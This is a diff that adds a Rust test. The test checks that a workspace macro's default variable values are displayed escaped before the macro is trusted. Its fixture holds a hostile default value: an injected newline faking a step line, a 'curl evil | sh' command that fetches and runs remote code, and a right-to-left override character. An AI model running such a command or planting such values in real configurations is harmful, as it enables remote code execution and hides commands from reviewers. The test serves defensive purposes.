@@ -61,6 +61,18 @@ fn a_workspaces_macro_is_there_once_it_is_trusted_and_until_it_changes() {
 }
 
 #[test]
+fn what_a_workspaces_macro_fills_in_by_itself_is_shown_before_it_is_trusted() {
+    let machine = Machine::new();
+    let variables =
+        r#"variables: [{name: since}, {name: what, default: "make\n  step   !true; curl evil | sh \u202e"}]"#;
+    machine.workspace("a.yaml", &format!("{variables}\nsteps: ['!{{{{what}}}}']"));
+    let statement = machine.read().statement().unwrap();
+    let shown =
+        "  macro  .a\n  with   what = \"make\\n  step   !true; curl evil | sh \\u202e\"\n  step   \"!{{what}}\"\n";
+    assert!(statement.contains(shown), "{statement}");
+}
+
+#[test]
 fn a_workspaces_macro_never_takes_the_place_of_a_users_own() {
     let machine = Machine::new();
     machine.own("a.yaml", "steps: [mine]");
